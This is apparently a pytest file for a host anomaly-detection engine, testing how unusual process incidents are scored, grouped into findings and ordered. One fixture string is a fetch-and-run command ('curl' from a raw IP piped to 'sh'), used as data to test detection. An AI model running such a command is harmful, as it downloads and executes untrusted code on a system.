"""Findings: incidents whose odd parts are alike, and what they are worth."""

from __future__ import annotations

import numpy as np
import pytest

from engine.findings.alike import MORE, NEXT, finding_scores
from engine.findings.incidents import SMALL
from tests.engine.findings.forests import found, together

SYSTEMD, SH = "/usr/lib/systemd/systemd", "/bin/sh"


def scores(owner: list[int], value: list[float], everyday: float, kind: list[int] | None = None) -> list[float]:
    kinds = np.arange(len(value)) if kind is None else np.array(kind)
    return finding_scores(np.array(owner, dtype=np.int64), np.array(value), kinds.astype(np.int64), everyday).tolist()


def test_the_score_is_the_best_and_a_share_of_what_some_more_are_odder_than_everyday():
    assert scores([1, 1, 1, 0], [2.0, 4.0, 1.0, 3.0], 1.5) == pytest.approx([3.0, 4.0 + NEXT * 0.5])
    many = np.arange(20.0, 0, -1)
    assert scores([0] * 20, many.tolist(), 0.0) == pytest.approx([20 + NEXT * many[1 : MORE + 1].sum()])


def test_of_each_kind_of_step_only_the_oddest_counts():
    assert scores([0] * 4, [2.0, 4.0, 3.0, 1.0], 0.0, [7, 7, 7, 8]) == pytest.approx([4.0 + NEXT * 1.0])
    # Each finding for itself: the same kind in two of them counts in both.
    assert scores([0, 1, 0, 1], [4.0, 3.0, 2.0, 1.0], 0.0, [7, 7, 8, 8]) == pytest.approx([4 + NEXT * 2, 3 + NEXT * 1])


def test_a_thousand_ordinary_steps_are_worth_no_more_than_one():
    assert scores([0] * 1000, [0.9] * 1000, 0.9) == [0.9]


def test_a_number_without_members_is_worth_nothing():
    assert scores([1], [2.0], 0.0) == [-np.inf, 2.0]
    assert scores([], [], 0.0) == []


def test_workers_with_the_interpreter_of_other_directories_say_the_same_thing_once():
    def worth(*workers: tuple[str, str]) -> float:
        rows = [("/usr/bin/pytest", -1, 0, 2.0), *[(path, 0, 0, 1.9) for path, _ in workers]]
        return float(found(rows, lines=[None, *[line for _, line in workers]]).score[0])

    one = worth(("/opt/3.12.1/bin/python3", "python3 -c 1"))
    assert worth(*[(f"/opt/3.12.{number}/bin/python3", f"python3 -c {number}") for number in range(6)]) == pytest.approx(one)
    assert worth(("/opt/3.12.1/bin/python3", "python3 -c 1"), ("/opt/3.12.1/bin/pip", "pip install x")) > one
    assert worth(("/opt/3.12.1/bin/python3", "python3 -c 1"), ("/opt/3.12.1/bin/python3", "python3 -m http.server")) > one


def test_alike_incidents_are_one_finding_whoever_started_them():
    rows = [(SYSTEMD, -1, 0, 0.1), ("/opt/a", 0, 1, 0.2), (SH, 1, 1, 2.0), ("/opt/a", 0, 90, 0.2), (SH, 3, 90, 2.0)]
    findings = found(rows)
    assert findings.of_process().tolist() == [2, 1, 1, 1, 1]
    assert sorted(findings.place[findings.finding == 1].tolist()) == [1, 2]


def test_occurrences_come_the_oddest_first_then_by_time():
    rows = [(SYSTEMD, -1, 0, 0.1), *[(SH, 0, 30.0 * number, score) for number, score in enumerate([2.0, 2.5, 2.0])]]
    findings = found(rows)
    place = {int(findings.lead[row]): int(findings.place[row]) for row in range(3)}
    assert [place[number] for number in (1, 2, 3)] == [2, 1, 3]


def test_another_command_line_is_another_finding_and_other_numbers_are_not():
    rows = [(SYSTEMD, -1, 0, 0.1), *[(SH, 0, 30.0 * number, 2.0) for number in range(3)]]
    lines = [None, "sh -c 'debian-sa1 1 1'", "sh -c 'debian-sa1 60 2'", "sh -c 'curl http://1.2.3.4/x | sh'"]
    number = found(rows, lines=lines).of_process()
    assert number[1] == number[2] != number[3]


def test_what_was_taken_along_makes_no_difference():
    rows = [(SYSTEMD, -1, 0, 0.1), ("/opt/a", 0, 1, 0.2), (SH, 1, 1, 2.0), ("/opt/b", 1, 1, 0.1)]
    rows += [("/opt/a", 0, 90, 0.2), (SH, 4, 90, 2.0)]
    findings = found(rows)
    assert findings.of_process()[2] == findings.of_process()[5]
    assert together(findings)[0] == {1, 2, 3}


def test_the_score_knows_nothing_of_what_is_not_odd():
    alone = [("/opt/a", -1, 1, 0.1), (SH, 0, 1, 2.0)]
    beside = [*alone, *[("/bin/true", 0, 1, 0.95)] * (SMALL - 5)]
    assert found(alone).score[0] == found(beside).score[0] == 2.0


def test_the_same_findings_have_the_same_keys_whatever_else_there_is():
    one = [(SYSTEMD, -1, 0, 0.1), (SH, 0, 1, 2.0)]
    more = [*one, ("/opt/zzz", 0, 300, 3.0)]
    assert found(one).keys[0] in found(more).keys
    assert found(one, lines=[None, "sh -c a"]).keys[0] != found(one).keys[0]


def test_a_chain_is_shown_by_the_best_finding_that_covers_a_process_of_it():
    rows = [(SYSTEMD, -1, 0, 0.1), (SH, 0, 1, 2.0), (SH, 0, 90, 1.0)]
    findings = found(rows, lines=[None, "sh -c evil", "sh -c good"])
    assert findings.of_process().tolist() == [3, 1, 2]
    assert sorted(findings.of_chain.tolist()) == [1, 3]
